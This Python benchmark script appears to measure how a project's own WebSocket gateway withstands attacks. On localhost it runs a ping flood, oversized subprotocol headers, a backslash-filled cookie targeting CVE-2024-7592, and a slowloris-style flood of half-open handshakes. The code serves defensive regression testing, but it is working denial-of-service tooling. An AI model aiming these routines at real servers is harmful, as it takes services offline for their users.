"""Attacks on the WebSocket edge, measured: worst event-loop stall and memory growth.

    python -m bench.edge_attacks [--attack ping|subprotocols|cookie|handshakes|all]
                                 [--pythonpath DIR]

The gateway runs in its own process (``bench/edge_server.py``) with a loop-lag monitor;
this process is the attacker. ``--pythonpath`` picks the wsbus code the server imports,
so the same attacks run against an older checkout::

    python -m bench.edge_attacks --pythonpath /work/before   # the code before the fixes
    python -m bench.edge_attacks                              # this checkout

The attacks (issue 10, section 2):

- ``ping``: one client sends 256 MiB of pings (125-byte payloads) and never reads.
- ``subprotocols``: 20 handshakes at once, each offering ~500,000 subprotocol names in
  128 header lines of 8 KB (1 MB each).
- ``cookie``: 20 handshakes at once with an 8 KB ``Cookie`` header of backslashes in a
  quoted value, the token cookie's name included (CVE-2024-7592 in ``http.cookies``).
- ``handshakes``: the server runs under an open-file limit of 1024; 2,000 connections
  send half a request and stall; 50 real clients then connect and ask for an echo.

Each prints the worst loop stall during the attack and the server's resident memory
growth (now and peak), the server's log lines and tracebacks, and what the attack got.
``EDGE_SERVER_ARGS="--backlog 16"`` passes options on to the server. The helpers (raw
frames, a raw handshake) serve the tests too.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

from wsbus_testing.raw import masked_frame as masked_frame
from wsbus_testing.raw import open_upgraded as open_upgraded
from wsbus_testing.raw import parse_frames as parse_frames
from wsbus_testing.raw import read_head as read_head
from wsbus_testing.raw import upgrade_request as upgrade_request

ROOT = Path(__file__).resolve().parent.parent
SERVER = Path(__file__).resolve().parent / "edge_server.py"


# -- raw WebSocket pieces: wsbus_testing.raw's (the edge suites use them too) ----------------


def open_raw(port: int, rcvbuf: int = 0, extra: list[tuple[str, str]] = ()) -> socket.socket:  # type: ignore[assignment]
    """Open a WebSocket with a blocking socket and read the 101; return the socket.

    Whatever came with the 101 is not kept: for clients that never read.
    """
    return open_upgraded(port, rcvbuf, extra)[0]


def ping_flood(port: int, total: int, payload: int = 125) -> tuple[int, bool]:
    """Send ``total`` bytes of pings and never read; return (bytes sent, closed by server)."""
    sock = open_raw(port, rcvbuf=4096)
    chunk = masked_frame(0x9, b"p" * payload) * (65536 // (payload + 6))
    sent = 0
    closed = False
    sock.settimeout(30)
    try:
        while sent < total:
            sock.sendall(chunk)
            sent += len(chunk)
    except OSError:
        closed = True
    finally:
        sock.close()
    return sent, closed


# -- the server process ---------------------------------------------------------------------


class ServerProcess:
    """``bench/edge_server.py`` in a subprocess, asked for its figures over stdin."""

    def __init__(self, pythonpath: str | None = None, *args: str) -> None:
        env = dict(os.environ)
        env["PYTHONPATH"] = pythonpath or str(ROOT)
        self.proc = subprocess.Popen(
            [sys.executable, str(SERVER), *args],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
        )
        self.stderr: list[str] = []
        assert self.proc.stderr is not None
        stderr = self.proc.stderr
        self._reader = threading.Thread(target=lambda: self.stderr.extend(stderr), daemon=True)
        self._reader.start()
        self.port = int(json.loads(self._line())["port"])

    def _line(self) -> str:
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline()
        if not line:
            raise RuntimeError("the edge server exited:\n" + "".join(self.stderr[-20:]))
        return line

    def ask(self, command: str) -> dict[str, Any]:
        """Send ``stats`` or ``reset`` and return the answer."""
        assert self.proc.stdin is not None
        self.proc.stdin.write(command + "\n")
        self.proc.stdin.flush()
        answer: dict[str, Any] = json.loads(self._line())
        return answer

    def stop(self) -> None:
        """End the process (by its pid) and wait for it."""
        try:
            assert self.proc.stdin is not None
            self.proc.stdin.write("quit\n")
            self.proc.stdin.flush()
            self.proc.wait(10)
        except (OSError, subprocess.TimeoutExpired):
            self.proc.kill()
            self.proc.wait(10)
        self._reader.join(5)
        for pipe in (self.proc.stdin, self.proc.stdout, self.proc.stderr):
            if pipe is not None:
                pipe.close()


# -- attacks ---------------------------------------------------------------------------------


def _subprotocol_request(port: int) -> bytes:
    names = ",".join(["a"] * 3990)  # one 7,979-byte line: under websockets' 8 KiB limit
    return upgrade_request(
        "127.0.0.1", port, [("Sec-WebSocket-Protocol", names)] * 120 + [("X-Pad", "x")]
    )


def _cookie_request(port: int) -> bytes:
    cookie = 'wsbus_token="' + "\\" * 8000 + '"'
    return upgrade_request("127.0.0.1", port, [("Cookie", cookie)])


def _send_and_read(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
        sock.sendall(request)
        head, _ = read_head(sock)
        return head


def _many_at_once(port: int, request: bytes, count: int) -> list[bytes]:
    heads: list[bytes] = []
    threads = [
        threading.Thread(target=lambda: heads.append(_send_and_read(port, request)))
        for _ in range(count)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    return heads


STALLER = """
import asyncio, resource, sys
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
port, count, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])

async def stall(stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        writer.write(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n")
        read = asyncio.ensure_future(reader.read(1))
        stopped = asyncio.ensure_future(stop.wait())
        await asyncio.wait([read, stopped], return_when=asyncio.FIRST_COMPLETED)
        read.cancel()
        stopped.cancel()
        writer.close()

async def main():
    stop = asyncio.Event()
    tasks = [asyncio.create_task(stall(stop)) for _ in range(count)]
    print("ready", flush=True)
    await asyncio.sleep(seconds)
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)

asyncio.run(main())
"""


def start_stallers(port: int, count: int, seconds: float) -> subprocess.Popen[str]:
    """Start a process that keeps ``count`` half-handshakes open on ``port``.

    For ``seconds``, opening a new one whenever the server drops one (a slow-request
    attack).
    """
    proc = subprocess.Popen(
        [sys.executable, "-c", STALLER, str(port), str(count), str(seconds)],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert proc.stdout is not None
    proc.stdout.readline()
    return proc


def stop_stallers(proc: subprocess.Popen[str]) -> None:
    """End the stallers' process (by its pid) and close its pipe."""
    proc.kill()
    proc.wait(10)
    if proc.stdout is not None:
        proc.stdout.close()


async def real_client(port: int, errors: list[str] | None = None) -> bool:
    """Connect, read the welcome, get an echo back; True if all of it worked within 10 s.

    A failure's step and exception go to ``errors`` when given.
    """
    from websockets.asyncio.client import connect

    step = "connect"
    try:
        async with asyncio.timeout(10):
            async with connect(f"ws://127.0.0.1:{port}/", open_timeout=10) as ws:
                step = "welcome"
                await ws.recv()
                step = "echo"
                await ws.send('{"type": "echo", "content": 1, "id": "e"}')
                while '"echo.reply"' not in str(await ws.recv()):
                    pass
        return True
    except Exception as exc:
        if errors is not None:
            errors.append(f"{step}: {type(exc).__name__}: {exc}"[:160])
        return False


def _half_handshakes(port: int, stalled: int, real: int) -> tuple[int, int, list[str]]:
    """Hold ``stalled`` half-handshakes while ``real`` clients connect and get an echo.

    Returns (real clients served, failed, why they failed).
    """
    stallers = start_stallers(port, stalled, 15.0)
    errors: list[str] = []
    try:
        time.sleep(2)

        async def clients() -> list[bool]:
            return await asyncio.gather(*(real_client(port, errors) for _ in range(real)))

        results = asyncio.run(clients())
    finally:
        stop_stallers(stallers)
    return sum(results), real - sum(results), errors


def run_attack(name: str, pythonpath: str | None) -> dict[str, Any]:
    """Run one attack against a fresh server; return its figures."""
    args: tuple[str, ...] = ("--nofile", "1024") if name == "handshakes" else ()
    args += tuple(os.environ.get("EDGE_SERVER_ARGS", "").split())
    server = ServerProcess(pythonpath, *args)
    try:
        time.sleep(0.5)
        before = server.ask("stats")
        server.ask("reset")
        start = time.monotonic()
        detail: dict[str, Any] = {}
        if name == "ping":
            sent, closed = ping_flood(server.port, 256 * 1024 * 1024)
            detail = {"sent_mb": round(sent / 2**20), "closed_by_server": closed}
        elif name == "subprotocols":
            heads = _many_at_once(server.port, _subprotocol_request(server.port), 20)
            detail = {"answers": sorted({h.split(b"\r\n")[0].decode() for h in heads})}
        elif name == "cookie":
            heads = _many_at_once(server.port, _cookie_request(server.port), 20)
            detail = {"answers": sorted({h.split(b"\r\n")[0].decode() for h in heads})}
        elif name == "handshakes":
            served, failed, errors = _half_handshakes(server.port, 2000, 50)
            detail = {"real_served": served, "real_failed": failed}
            if errors:
                detail["real_errors"] = sorted(set(errors))[:5]
        else:
            raise ValueError(name)
        elapsed = time.monotonic() - start
        after = server.ask("stats")
    finally:
        server.stop()
    for line in server.stderr[:3]:
        print("  server log:", line.rstrip()[:200], file=sys.stderr)
    log_lines = len(server.stderr)
    tracebacks = sum(line.startswith("Traceback") for line in server.stderr)
    return {
        "attack": name,
        "seconds": round(elapsed, 2),
        "max_stall_ms": round(after["max_lag"] * 1000, 1),
        "rss_growth_mb": round((after["rss"] - before["rss"]) / 2**20, 1),
        "peak_rss_growth_mb": round((after["peak_rss"] - before["peak_rss"]) / 2**20, 1),
        "log_lines": log_lines,
        "tracebacks": tracebacks,
        **detail,
    }


def main() -> None:
    """Run the attacks given on the command line and print one JSON line per attack."""
    parser = argparse.ArgumentParser(description="Measure attacks on the WebSocket edge.")
    parser.add_argument(
        "--attack",
        choices=("ping", "subprotocols", "cookie", "handshakes", "all"),
        default="all",
    )
    parser.add_argument("--pythonpath", default=None, help="where the server imports wsbus from")
    args = parser.parse_args()
    # The attacker holds thousands of sockets itself.
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    names = (
        ("ping", "subprotocols", "cookie", "handshakes") if args.attack == "all" else (args.attack,)
    )
    for name in names:
        print(json.dumps(run_attack(name, args.pythonpath)), flush=True)


if __name__ == "__main__":
    main()
